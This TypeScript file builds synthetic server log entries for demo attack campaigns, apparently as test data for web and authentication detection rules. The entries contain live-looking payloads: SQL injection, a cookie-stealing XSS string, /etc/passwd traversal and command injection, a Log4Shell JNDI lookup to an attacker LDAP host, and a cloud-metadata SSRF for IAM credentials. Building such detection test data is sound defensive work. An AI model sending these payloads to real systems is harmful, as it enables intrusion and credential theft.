// Demo attacks on the internet-facing services: web requests that the web rules catch, and SSH
// and sudo abuse that the authentication rules catch.
import { campaign, entry, type AttackContext, type Campaign } from './campaign.js';
import { auditdAuth, CHROME, nginx, syslog } from './records.js';

const WORDLIST = [
  'admin',
  'backup',
  'old',
  'test',
  'dev',
  'staging',
  'private',
  'db',
  'config',
  'upload',
  'wp-admin',
  'phpmyadmin',
  'cgi-bin',
  'api-docs',
  'console',
];
const SPRAYED = ['admin', 'oracle', 'postgres', 'ubuntu', 'test', 'git', 'jenkins', 'ftpuser'];
const webAttack =
  (request: string, extra: { status?: string; agent?: string; referer?: string } = {}) =>
  (c: AttackContext) =>
    nginx(c.time, 'web-01', { client: c.attacker('203.0.113'), request, ...extra });

/** In schedule order (a campaign's position picks its attacker addresses). */
export const webAndAuthAttacks: readonly Campaign[] = [
  // web
  campaign(
    'web',
    'SQL injection',
    1_000,
    (c) =>
      webAttack(
        c.index === 0
          ? 'GET /products.php?id=1%27%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--%20- HTTP/1.1'
          : "GET /login.php?user=admin'+OR+'1'='1&pass=x HTTP/1.1",
        { agent: CHROME },
      )(c),
    2,
    400,
  ),
  campaign(
    'web',
    'cross-site scripting',
    2_500,
    webAttack('GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1'),
  ),
  campaign('web', 'path traversal', 4_000, webAttack('GET /static/../../../../etc/passwd HTTP/1.1', { status: '400' })),
  campaign('web', 'Log4Shell JNDI lookup', 5_500, (c) =>
    webAttack('GET / HTTP/1.1', {
      agent: `\${jndi:ldap://${c.attacker('198.51.100')}:1389/Basic/Command/Base64/aWQ=}`,
    })(c),
  ),
  campaign(
    'web',
    'vulnerability scanner',
    7_000,
    (c) =>
      webAttack(`GET /${entry(WORDLIST, c.index)}/ HTTP/1.1`, {
        status: '404',
        agent: 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)',
      })(c),
    3,
    300,
  ),
  campaign(
    'web',
    'web shell',
    8_500,
    (c) =>
      webAttack(
        c.index === 0
          ? 'POST /wp-content/uploads/2026/11/wso.php HTTP/1.1'
          : 'GET /uploads/avatar_91.php?cmd=whoami HTTP/1.1',
      )(c),
    2,
    700,
  ),
  campaign(
    'web',
    'command injection',
    20_000,
    webAttack('GET /tools/ping.php?host=127.0.0.1%3Bcat%20/etc/passwd HTTP/1.1'),
  ),
  campaign('web', 'exposed .env served', 24_000, webAttack('GET /.env HTTP/1.1', { status: '200' })),
  campaign(
    'web',
    'cloud metadata SSRF',
    27_000,
    webAttack('GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1'),
  ),
  campaign(
    'web',
    'content discovery',
    32_000,
    (c) =>
      nginx(c.time, 'web-01', {
        client: c.attacker('192.0.2'),
        request: `GET /${WORDLIST[c.index % WORDLIST.length]}${Math.floor(c.index / WORDLIST.length) || ''}.php HTTP/1.1`,
        status: '404',
        agent: 'python-requests/2.32.3',
      }),
    60,
    200,
  ),
  // auth
  campaign(
    'auth',
    'SSH brute force',
    1_500,
    (c) =>
      syslog(
        c.time,
        'web-01',
        'sshd[812]',
        `Failed password for ${c.index % 3 === 0 ? 'root' : `invalid user ${SPRAYED[c.index % SPRAYED.length]}`} from ${c.attacker('198.51.100')} port ${50_000 + c.index * 7} ssh2`,
      ),
    12,
    1_000,
  ),
  campaign('auth', 'sudo by a user not in sudoers', 6_000, (c) =>
    syslog(
      c.time,
      'db-01',
      'sudo',
      'mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/mallory ; USER=root ; COMMAND=/bin/bash',
    ),
  ),
  campaign(
    'auth',
    'SSH password spraying',
    12_000,
    (c) => auditdAuth(c.time, 'db-01', entry(SPRAYED, c.index), c.attacker('203.0.113'), 'failed'),
    6,
    1_500,
  ),
  campaign('auth', 'root shell through sudo', 22_000, (c) =>
    syslog(c.time, 'web-02', 'sudo', 'deploy : TTY=pts/3 ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/su -'),
  ),
  campaign('auth', 'privileged account created', 41_000, (c) =>
    syslog(c.time, 'db-01', 'usermod[4301]', "add 'sysupdate' to group 'sudo'"),
  ),
];
